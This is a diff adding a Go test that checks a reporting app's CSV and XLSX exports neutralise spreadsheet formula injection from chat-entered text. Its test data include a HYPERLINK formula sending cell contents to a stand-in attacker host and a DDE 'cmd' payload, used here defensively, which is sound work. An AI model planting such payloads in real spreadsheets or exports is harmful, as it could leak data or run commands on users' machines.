@@ -1,0 +1,134 @@
+package export_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+
+	"github.com/baosong/baosong"
+	"github.com/baosong/baosong/config"
+	"github.com/baosong/baosong/export"
+	"github.com/baosong/baosong/org"
+	"github.com/baosong/baosong/report"
+	"github.com/baosong/baosong/store"
+)
+
+// Formulas typed in chat (an item's title, author and body, a weekly
+// report, a good deed) reach the exports as text: CSV cells get a leading
+// quote, XLSX cells are strings, never formulas.
+var hostileCells = []string{
+	`=HYPERLINK("http://evil.example/?"&A1,"点我")`,
+	"+cmd|' /C calc'!A0",
+	"@SUM(1+1)",
+	"-2+3",
+	"\t=1+1",
+}
+
+func hostileSource(t *testing.T) *export.Source {
+	t.Helper()
+	cfg, err := config.Parse(baosong.ExampleConfig, ".")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir, err := org.New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	db, err := store.Open(t.TempDir(), store.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { db.Close() })
+	now := time.Date(2026, 11, 20, 9, 0, 0, 0, cst)
+	clock := func() time.Time { return now }
+	desk, err := report.NewDesk(cfg, dir, db, clock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := context.Background()
+	member := func(id string) *org.Member { m, _ := dir.Member(id); return m }
+	day := time.Date(2026, 11, 10, 9, 0, 0, 0, cst)
+	h := hostileCells
+	if _, err := desk.Submit(ctx, member("officer-1"), report.Fields{Title: h[0], Category: "动态", Body: h[1], Author: h[2], Reviewer: h[3]}, day); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := desk.SubmitWeekly(ctx, member("officer-2"), h[4], day); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := desk.ReportGoodDeed(ctx, member("cadre-g1c1"), "g1c1", h[0], day); err != nil {
+		t.Fatal(err)
+	}
+	return &export.Source{Config: cfg, Dir: dir, Store: db, Now: clock}
+}
+
+func TestExportsNeutraliseFormulas(t *testing.T) {
+	src := hostileSource(t)
+	for _, what := range []string{"submissions", "weekly"} {
+		var buf bytes.Buffer
+		if err := export.Write(src, what, "2026-11", export.CSV, &buf); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := 0
+		for _, row := range rows {
+			for _, cell := range row {
+				for _, h := range hostileCells {
+					if cell == h {
+						t.Errorf("%s csv: cell %q is a live formula", what, cell)
+					}
+					if cell == "'"+h {
+						found++
+					}
+				}
+			}
+		}
+		if want := map[string]int{"submissions": 3, "weekly": 1}[what]; found != want {
+			t.Errorf("%s csv: %d neutralised cells, want %d:\n%s", what, found, want, buf.String())
+		}
+	}
+
+	var buf bytes.Buffer
+	if err := export.Write(src, "archive", "2026", export.XLSX, &buf); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	found := 0
+	for _, sheet := range f.GetSheetList() {
+		rows, err := f.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for r, row := range rows {
+			for c, v := range row {
+				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
+				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
+					t.Errorf("%s!%s holds the formula %q", sheet, cell, formula)
+				}
+				for _, h := range hostileCells {
+					if v != h {
+						continue
+					}
+					found++
+					if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
+						t.Errorf("%s!%s = %q is stored as type %v, not text", sheet, cell, v, typ)
+					}
+				}
+			}
+		}
+	}
+	if found != 5 { // title, author, reviewer; the weekly report; the good deed
+		t.Errorf("%d hostile texts found as text cells in the archive, want 5", found)
+	}
+}
